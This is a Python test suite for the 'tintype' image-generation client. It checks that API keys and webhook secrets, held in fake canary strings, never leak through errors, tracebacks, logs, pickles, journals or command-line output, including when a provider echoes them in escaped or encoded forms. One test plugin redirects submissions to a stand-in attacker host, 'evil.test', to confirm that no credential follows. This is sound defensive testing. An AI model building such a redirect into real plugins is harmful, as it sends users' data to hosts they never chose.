"""The key: in the header at the server, and nowhere else, whatever goes wrong."""

from __future__ import annotations

import asyncio
import base64
import contextlib
import copy
import io
import json
import logging
import pickle
import subprocess
import sys
import traceback
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path
from urllib.parse import quote

import pytest
from attrs import evolve
from tests.core import easel
from tests.core.conftest import Connect
from tests.core.loopback import Fault, Loopback, answer, events, said
from tests.core.pictures import PNG, in_base64

from tintype import (
    Account,
    AsyncClient,
    Client,
    Delivery,
    ImageRequest,
    Observation,
    Secret,
    Submission,
    hookimpl,
    to_json,
)
from tintype._client.accounts import Environ
from tintype._keys.redaction import Redactor
from tintype.catalog import ProviderInfo
from tintype.errors import (
    JournalError,
    MissingKeyError,
    PluginError,
    TintypeError,
    UsageError,
)
from tintype.messages import ServerSentEvent
from tintype.signatures import Hmac

ROOT = Path(__file__).parents[2]
CANARY = "sk-canary-0451-do-not-tell"
SIGNS = "whsec-canary-0452-do-not-tell"
REQUEST = ImageRequest(prompt="a red panda", n=2)
CREATE = "POST /v1/pictures"
LOOK = "GET /v1/pictures/p1"
LOGGERS = ("tintype", "urllib3", "aiohttp", "asyncio", "sqlalchemy", "concurrent")


class Net:
    """Catches whatever is said, logged or raised, and looks for the key in it."""

    def __init__(self) -> None:
        self.caught: list[str] = []

    def observe(self, told: Observation) -> None:
        """An observer that shows everything it is shown."""
        self.caught += [repr(told), str(told.effect), str(told.reply), str(told.error)]
        with contextlib.suppress(TypeError):  # a file that is being written
            self.caught.append(repr(pickle.dumps((told.effect, told.reply))))

    def catch(self, error: BaseException) -> None:
        """An error as a crash reporter tells it: chains, and the local variables of frames."""
        told = traceback.TracebackException.from_exception(error, capture_locals=True)
        self.caught += ["".join(told.format()), str(error), repr(error), repr(vars(error))]
        with contextlib.suppress(TypeError, AttributeError):
            self.caught.append(repr(pickle.dumps(error)))

    def holds(self, secret: str) -> list[str]:
        """Where the secret stands."""
        return [text[:200] for text in self.caught if secret in text]


@pytest.fixture
def net(caplog: pytest.LogCaptureFixture) -> Iterator[Net]:
    """A net under a run in which everything is logged."""
    made = Net()
    for name in LOGGERS:
        caplog.set_level(logging.DEBUG, name)
    yield made
    made.caught += [
        record.getMessage() + repr(record.__dict__) + str(record.exc_info)
        for record in caplog.records
    ]
    assert made.holds(CANARY) == []
    assert made.holds(SIGNS) == []


def account(server: Loopback, **fields: object) -> Account:
    """An account with the canary."""
    return Account(
        provider="easel", key=CANARY, base_url=server.url, webhook_secrets=SIGNS, **fields
    )


FAILURES = {
    "refused": said({"why": "no"}, status=400),
    "bad key": said({"why": "who are you?"}, status=401),
    "broken": said({}, status=500),
    "reset": Fault.RESET,
    "closed": Fault.CLOSE,
    "half": (b"HTTP/1.1 200 OK\r\nContent-Length: 99\r\n\r\n{", Fault.RESET),
    "no http": b"SSH-2.0-OpenSSH\r\n\r\n",
    "html": answer(b"<html>", media_type="text/html"),
    "elsewhere": answer(status=307, headers=[("Location", "http://127.0.0.1:9/")]),
    "zipped wrong": answer(b"no gzip", headers=[("Content-Encoding", "gzip")]),
    "late": Fault.STALL,
}


@pytest.mark.parametrize("name", FAILURES)
def test_a_submission_that_fails_tells_no_key(
    connect: Connect, server: Loopback, net: Net, tmp_path: Path, name: str
) -> None:
    """Not in the error, its causes, its frames, the logs, the observers or the journal."""
    server.on(CREATE, FAILURES[name])
    client = connect(
        account(server),
        plugins={"easel": easel},
        observers=[net.observe],
        journal=tmp_path / "journal.db",
        request_timeout=0.3 if name == "late" else None,
    )
    with pytest.raises(Exception) as caught:  # noqa: PT011 - whatever comes
        client.generate(REQUEST, provider="easel")
    net.catch(caught.value)
    for attempt in getattr(caught.value, "attempts", ()):
        if attempt.error is not None:
            net.catch(attempt.error)
    net.caught += [repr(client), repr(vars(client)), repr(client.account("easel"))]
    net.caught += [repr(vars(client._setup))] if isinstance(client, Client) else []  # noqa: SLF001
    assert all(request.header("authorization") for request in server.requests)
    _sift(net, tmp_path)


def _echo(kind: str) -> object:
    """The key and the webhook's secret, as a provider repeats them."""
    why = f"Incorrect API key provided: {CANARY} ({SIGNS})"
    if kind == "body":
        return said({"why": why}, status=401)
    if kind == "headers":
        return said({"why": "no"}, status=401, headers=[("X-Why", why)])
    told = json.dumps({"id": "p1", "state": "failed", "why": why})
    return events(f"data: {told}\n\n".encode())


@pytest.mark.parametrize("kind", ["body", "headers", "events"])
def test_a_key_that_the_provider_repeats_is_taken_out(
    connect: Connect, server: Loopback, net: Net, tmp_path: Path, kind: str
) -> None:
    """No error, observer, log or journal has it, however the provider says it."""
    server.on(CREATE, _echo(kind))
    client = connect(
        account(server),
        plugins={"easel": easel},
        observers=[net.observe],
        journal=tmp_path / "journal.db",
    )
    with pytest.raises(TintypeError) as caught:
        client.generate(ImageRequest(prompt="a red panda"), provider="easel")
    net.catch(caught.value)
    _sift(net, tmp_path)
    assert any("…" in text for text in net.caught)


def _as_php(key: str) -> str:
    return key.replace("/", "\\/")


def _as_dotnet(key: str) -> str:
    return key.replace("+", "\\u002b").replace("/", "\\u002F")


def _escaped_throughout(key: str) -> str:
    return "".join(f"\\u{ord(each):04x}" for each in key)


@pytest.mark.parametrize("written", [_as_php, _as_dotnet, _escaped_throughout])
def test_a_key_that_json_has_escaped_is_taken_out(written: Callable[[str], str]) -> None:
    """What `json.loads` would make a key of again is none any more, in bodies and events."""
    key = "sk-ab+cd/ef+gh/1234"
    said_by_server = json.dumps({"why": "bad key KEY"}).replace("KEY", written(key))
    assert json.loads(said_by_server)["why"] == f"bad key {key}"
    redactor = Redactor([Secret(key)])
    assert json.loads(redactor.body(said_by_server.encode()))["why"] == "bad key …"
    event = redactor.event(ServerSentEvent(data=said_by_server))
    assert json.loads(event.data)["why"] == "bad key …"


def _cut_at_the_end(key: str) -> str:
    return key[:-1]


def _cut_at_the_front(key: str) -> str:
    return key[1:]


def _in_a_url(key: str) -> str:
    return quote(key, safe="")


def _in_a_url_in_small_letters(key: str) -> str:
    return quote(key, safe="").replace("%2B", "%2b").replace("%2F", "%2f")


def _in_a_url_in_a_url(key: str) -> str:
    return quote(quote(key, safe=""), safe="")


def _in_base64(key: str) -> str:
    return base64.b64encode(key.encode()).decode()


def _as_a_basic_header(key: str) -> str:
    return base64.b64encode(f"user:{key}".encode()).decode()


def _in_url_safe_base64(key: str) -> str:
    return base64.urlsafe_b64encode(f"a{key}z".encode()).decode()


def _in_hexadecimal(key: str) -> str:
    return key.encode().hex()


@pytest.mark.parametrize(
    "written",
    [
        _cut_at_the_end,
        _cut_at_the_front,
        _in_a_url,
        _in_a_url_in_small_letters,
        _in_a_url_in_a_url,
        _in_base64,
        _as_a_basic_header,
        _in_url_safe_base64,
        _in_hexadecimal,
    ],
)
def test_a_key_that_is_spelt_otherwise_is_taken_out(written: Callable[[str], str]) -> None:
    """Whoever echoes a key in a URL, in base64, in hexadecimal or cut short shows none of it."""
    key = "sk-ab+cd/ef+gh/1234567890"
    spelt = written(key)
    redactor = Redactor([Secret(key)])
    for clean in (
        redactor.body(f'{{"why": "bad key {spelt}."}}'.encode()).decode(),
        redactor.event(ServerSentEvent(data=f"bad key {spelt}.")).data,
    ):
        assert "…" in clean
        left = clean.partition("bad key ")[2].partition(".")[0].replace("…", "")
        assert len(left) < len(spelt) - len(key) * 0.8  # what stood around the key may stand
        assert written(key)[4:-4] not in clean


def test_a_key_with_backslashes_in_a_row_is_taken_out_to_its_end() -> None:
    """Two of them are no escaped one where the key has two."""
    key = "00000000009:<\\\\="
    assert Redactor([Secret(key)]).body(f"[{key}]".encode()) == "[…]".encode()


def test_a_body_full_of_escapes_is_left_as_it_is() -> None:
    """Backslashes, percent signs and the beginnings of a key, over and over, hold no key."""
    redactor = Redactor([Secret("sk-ab+cd/ef+gh/1234567890")])
    for piece in (b"\\", b"\\u0073", b"%73", b"sk-", b"s", bytes(range(256))):
        body = piece * 100_000
        assert redactor.body(body) is body


def test_an_environment_shows_none_of_its_items() -> None:
    """Reporters print the items of every mapping among a frame's variables: it is no mapping."""
    environ = Environ({"EASEL_API_KEY": CANARY})
    assert not isinstance(environ, Mapping)
    assert not hasattr(environ, "items")
    assert CANARY not in repr(environ)
    assert environ.get("EASEL_API_KEY", "") == CANARY


def test_what_is_too_short_for_a_key_is_left_alone() -> None:
    """It would stand in many an answer by chance; an answer without the key is the very same."""
    body = b'{"id": "sk-1"}'
    assert Redactor([Secret("sk-1")]).body(body) is body
    assert Redactor([Secret(CANARY)]).body(body) is body


def _sift(net: Net, folder: Path) -> None:
    """Every byte that was written into a folder."""
    for path in folder.rglob("*"):
        if path.is_file():
            net.caught.append(path.read_bytes().decode("latin-1"))


def test_a_run_with_every_kind_of_trouble_tells_no_key(
    connect: Connect, server: Loopback, net: Net, tmp_path: Path
) -> None:
    """Polls that fail, a download that fails, a task that does not end: and what is saved."""
    inline = said({"id": "p2", "state": "done", "picture": in_base64(PNG)})
    done = said({"id": "p1", "state": "done", "urls": [f"{server.url}/1.png"]})
    server.on(CREATE, said({"id": "p1", "state": "drawing"}), inline)
    server.on(LOOK, Fault.RESET, said({}, status=500), answer(b"<p>"), done)
    server.on("GET /1.png", said({}, status=404))
    folder = tmp_path / "out"
    client = connect(
        account(server),
        plugins={"easel": easel},
        observers=[net.observe],
        journal=tmp_path / "journal.db",
    )
    drawn = client.generate(REQUEST, provider="easel")
    net.caught += [repr(drawn), repr(pickle.dumps(drawn)), *(to_json(t) for t in drawn.tasks)]
    with pytest.raises(Exception) as caught:  # noqa: PT011 - whatever comes
        client.save(drawn, folder)
    net.catch(caught.value)
    client.save(drawn.tasks[1], folder)
    net.caught += [repr(client.resume(folder)), repr(client.journal.records())]
    _sift(net, tmp_path)
    assert list(folder.iterdir())
    assert "p1" in "".join(net.caught)
    fetched = [request for request in server.requests if request.target == "/1.png"]
    assert all(request.header("authorization") is None for request in fetched)
    assert server.requests[0].header("authorization") == f"Bearer {CANARY}"


@pytest.mark.parametrize("stall", ["answer", "body"])
async def test_a_cancelled_call_tells_no_key(
    server: Loopback, net: Net, tmp_path: Path, stall: str
) -> None:
    """The frames of a cancellation hold no header."""
    begun = b"HTTP/1.1 200 OK\r\nContent-Length: 99\r\n\r\n{"
    server.on(CREATE, Fault.STALL if stall == "answer" else (begun, Fault.STALL))
    options = {"plugins": {"easel": easel}, "journal": tmp_path / "journal.db", "environ": {}}
    async with AsyncClient(account(server), **options) as client:
        drawing = asyncio.create_task(client.generate(REQUEST, provider="easel"))
        await asyncio.to_thread(server.has_been_asked)
        drawing.cancel()
        with pytest.raises(asyncio.CancelledError) as caught:
            await drawing
        net.catch(caught.value)
        with pytest.raises(TimeoutError) as late:
            async with asyncio.timeout(0.2):
                await client.generate(REQUEST, provider="easel")
        net.catch(late.value)
        net.caught += [repr(drawing)]
    assert server.is_left_alone()


INTERRUPTED = """
import os, signal, sys, threading, traceback
from tests.core import easel
from tintype import Account, Client, ImageRequest
account = Account(provider="easel", key=sys.argv[2], base_url=sys.argv[1])
with Client(account, plugins={"easel": easel}, environ={}) as client:
    def ring():
        sys.stdin.readline()
        os.kill(os.getpid(), signal.SIGINT)
    threading.Thread(target=ring, daemon=True).start()
    try:
        client.generate(ImageRequest(prompt="p"), provider="easel")
    except KeyboardInterrupt as error:
        # Of the library's frames only: ours holds the arguments of the command.
        error.__traceback__ = error.__traceback__.tb_next
        told = traceback.TracebackException.from_exception(error, capture_locals=True)
        print("".join(told.format()))
"""


def test_an_interrupted_call_tells_no_key(server: Loopback) -> None:
    """Nor do those of Ctrl-C."""
    server.on(CREATE, Fault.STALL)
    process = subprocess.Popen(  # noqa: S603 - our own code
        [sys.executable, "-W", "error", "-c", INTERRUPTED, server.url, CANARY],
        cwd=ROOT,
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        text=True,
    )
    assert server.has_been_asked()
    out, _ = process.communicate("now\n", timeout=60)
    assert "KeyboardInterrupt" in out
    assert "_driver" in out
    assert CANARY not in out


# ------------------------------------------------------------------------ before anything is sent


def test_a_client_that_cannot_be_made_tells_no_key(net: Net, tmp_path: Path) -> None:
    """The environment is in no frame of ours as it is."""
    environ = {"EASEL_API_KEY": CANARY, "EASEL_WEBHOOK_SECRET": SIGNS}
    (tmp_path / "noise").write_bytes(b"no database" * 100)
    for kind in (Client, AsyncClient):
        for options in (
            {"journal": tmp_path / "noise"},
            {"budgets": [1]},
            {"task_timeout": -1},
        ):
            with pytest.raises((JournalError, UsageError)) as caught:
                kind(environ=environ, **options)
            _cut(caught.value)
            net.catch(caught.value)


def _cut(error: BaseException) -> None:
    """Leave out this test's own frame, which holds the key by itself."""
    if error.__traceback__ is not None:
        error.__traceback__ = error.__traceback__.tb_next


@pytest.mark.parametrize("worth", ["much", "-1", "NaN"])
def test_an_account_that_cannot_be_read_tells_no_key(net: Net, worth: str) -> None:
    """What else stands in the environment is not told with what is wrong there."""
    environ = {"EASEL_API_KEY": CANARY, "EASEL_USD_PER_CREDIT": worth}
    with Client(plugins={"easel": easel}, environ=environ) as client:
        with pytest.raises(UsageError) as caught:
            client.generate(REQUEST, provider="easel")
        _cut(caught.value)
        net.catch(caught.value)


@pytest.mark.parametrize("spoil", [f"{CANARY}\n", f" {CANARY} x", f"{CANARY}é"])
def test_a_key_that_no_header_can_carry_is_not_shown(
    connect: Connect, server: Loopback, net: Net, spoil: str
) -> None:
    """The error says that it is wrong, not what it is."""
    spoilt = Account(provider="easel", key=spoil, base_url=server.url)
    client = connect(spoilt, plugins={"easel": easel})
    with pytest.raises(MissingKeyError) as caught:
        client.generate(REQUEST, provider="easel")
    _cut(caught.value)
    net.catch(caught.value)


def test_a_base_url_with_a_password_does_not_show_it(connect: Connect, net: Net) -> None:
    """It is refused, and told without the password."""
    spoilt = Account(provider="easel", key=CANARY, base_url=f"https://me:{SIGNS}@host/x")
    with pytest.raises(UsageError) as caught:
        connect(spoilt, plugins={"easel": easel}).generate(REQUEST, provider="easel")
    net.caught += [str(caught.value), repr(caught.value)]


def test_a_webhook_that_is_refused_does_not_tell_its_secret(
    connect: Connect, server: Loopback, net: Net
) -> None:
    """The secret is compared, and in no frame of ours."""
    client = connect(account(server), plugins={"easel": _signed()})
    shown = (("X-Signature", "ab" * 32),)
    delivery = Delivery(body=b'{"id": "p1", "state": "done"}', headers=shown)
    with pytest.raises(Exception, match="signature") as caught:
        client.receive(delivery, provider="easel")
    net.catch(caught.value)
    assert server.requests == []


def _signed() -> object:
    import types  # noqa: PLC0415 - needed once

    plugin = types.ModuleType("easel_with_signatures")
    for name in ("price", "submit", "poll", "parse"):
        setattr(plugin, name, getattr(easel, name))

    @hookimpl
    def describe() -> ProviderInfo:
        """The easel, whose webhooks are signed."""
        return evolve(easel.INFO, signature=Hmac(header="X-Signature"))

    plugin.describe = describe  # type: ignore[attr-defined]
    return plugin


def test_a_plugin_that_asks_for_a_credential_elsewhere_gets_none(
    connect: Connect, server: Loopback, net: Net
) -> None:
    """And the error tells none."""
    client = connect(
        Account(provider="easel", key=CANARY, base_url="https://api.other.test"),
        plugins={"easel": _astray()},
    )
    with pytest.raises(PluginError) as caught:
        client.submit(REQUEST.__class__(prompt="p"), provider="easel")
    net.catch(caught.value)
    assert server.requests == []


def _astray() -> object:
    import types  # noqa: PLC0415 - needed once

    from tintype import Request  # noqa: PLC0415 - needed once

    plugin = types.ModuleType("easel_astray")
    for name in ("describe", "price", "poll", "parse"):
        setattr(plugin, name, getattr(easel, name))

    @hookimpl
    def submit(request: Submission) -> Request:
        """To a host that is not declared."""
        return Request.post("https://evil.test/", {"prompt": request.prompt})

    plugin.submit = submit  # type: ignore[attr-defined]
    return plugin


# ----------------------------------------------------------------------------- the type itself


def test_a_secret_shows_itself_only_when_asked() -> None:
    """Its text, repr, pickle, format and JSON are redactions; a copy stays within the process."""
    secret = Secret(CANARY)
    made = Account(provider="easel", key=secret, webhook_secrets=SIGNS)
    shown = [repr(secret), str(secret), f"{secret}", f"{secret!r:>40}", repr(made), f"{made}"]
    shown += [repr(pickle.dumps(secret)), repr(pickle.dumps(made))]
    out = io.StringIO()
    print(secret, made, file=out)
    assert [text for text in [*shown, out.getvalue()] if CANARY in text or SIGNS in text] == []
    with pytest.raises(TypeError):
        json.dumps(secret)
    assert copy.deepcopy(made).key is secret
    assert secret.reveal() == CANARY
    assert not hasattr(secret, "__dict__")


def test_an_account_goes_into_no_json(server: Loopback) -> None:
    """Whatever the converter makes of it, the key is not there."""
    try:
        text = to_json(account(server))
    except Exception as error:  # noqa: BLE001 - an error is as good
        text = str(error)
    assert CANARY not in text


# --------------------------------------------------------------------------- the command line


@pytest.mark.parametrize("what", ["reset", "bad key", "html", "no http"])
def test_the_command_line_tells_no_key(server: Loopback, tmp_path: Path, what: str) -> None:
    """Neither on stderr nor in what it leaves behind."""
    server.on("*", FAILURES[what])
    environ = {
        "PATH": "",
        "TINTYPE_JOURNAL": str(tmp_path / "journal.db"),
        "APIYI_API_KEY": CANARY,
        "APIYI_BASE_URL": server.url,
        "PYTHONASYNCIODEBUG": "1",
    }
    told = ""
    for arguments in (
        ("generate", "a red panda", "-p", "apiyi", "-o", str(tmp_path / "out")),
        ("tasks", "--all", "--json"),
        ("resume", "-o", str(tmp_path / "out")),
    ):
        done = subprocess.run(  # noqa: S603 - our own command
            [
                sys.executable,
                "-X",
                "dev",
                "-c",
                "from tintype._cli import main; main()",
                *arguments,
            ],
            env=environ,
            capture_output=True,
            text=True,
            timeout=60,
            check=False,
        )
        told += done.stdout + done.stderr
    assert "apiyi" in told
    assert CANARY not in told
    for path in tmp_path.rglob("*"):
        if path.is_file():
            assert CANARY.encode() not in path.read_bytes()
    assert server.requests[0].header("authorization") == f"Bearer {CANARY}"


def test_the_net_catches() -> None:
    """A key in a frame is found: what these tests rest on."""
    net = Net()

    def leak(key: str) -> None:
        raise ValueError(len(key))

    try:
        leak(CANARY)
    except ValueError as error:
        net.catch(error)
    assert net.holds(CANARY)
